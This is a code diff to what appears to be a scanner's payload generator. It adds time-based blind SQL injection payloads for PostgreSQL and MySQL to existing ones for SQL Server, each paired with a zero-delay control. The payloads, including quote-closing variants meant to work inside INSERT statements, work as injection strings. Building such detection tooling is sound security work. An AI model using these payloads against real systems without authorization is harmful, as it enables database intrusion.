@@ -101,19 +101,23 @@ class TimePair:
     min_delay_s: float = MIN_DELAY_S
 
 
-def time_pairs(genuine: str, seconds: int = SLEEP_S, *, body: bool = True) -> list[TimePair]:
+def time_pairs(genuine: str, *, body: bool = True) -> list[TimePair]:
     """Time payloads for SQL dialects and shells, each with its zero-second control. ``body``:
     the value travels in a request body (line-break payloads only there)."""
-    v, n = genuine, seconds
+    v, n = genuine, SLEEP_S
 
-    def both(shape: str, tpl: str, min_delay: float = MIN_DELAY_S) -> TimePair:
-        return TimePair(shape, tpl.format(v=v, n=n), tpl.format(v=v, n=0), min_delay)
+    def both(shape: str, tpl: str) -> TimePair:
+        return TimePair(shape, tpl.format(v=v, n=n), tpl.format(v=v, n=0), MIN_DELAY_S)
 
     out = [
         both("PostgreSQL '", "{v}' AND 1=(SELECT 1 FROM PG_SLEEP({n}))-- "),
         both("PostgreSQL 数值", "{v} AND 1=(SELECT 1 FROM PG_SLEEP({n}))"),
         both("PostgreSQL 表达式", "0+(SELECT 0 FROM PG_SLEEP({n}))"),
         both("PostgreSQL 多语句", "{v}';SELECT PG_SLEEP({n})-- "),
+        both("PostgreSQL 拼接", "{v}'||(SELECT '' FROM PG_SLEEP({n}))||'"),
+        # Without a comment, closed by the product's own quote: also inside INSERT ... VALUES ('…').
+        both("PostgreSQL ' 无注释", "{v}' AND 1=(SELECT 1 FROM PG_SLEEP({n})) AND 'a'='a"),
+        both("MySQL ' 无注释", "{v}' AND (SELECT 1 FROM (SELECT SLEEP({n}))a) AND 'a'='a"),
         both("MySQL '", "{v}' AND (SELECT 1 FROM (SELECT SLEEP({n}))a)-- "),
         both("MySQL 数值", "{v} AND (SELECT 1 FROM (SELECT SLEEP({n}))a)"),
         both("SQL Server", "{v}';WAITFOR DELAY '0:0:{n}'-- "),
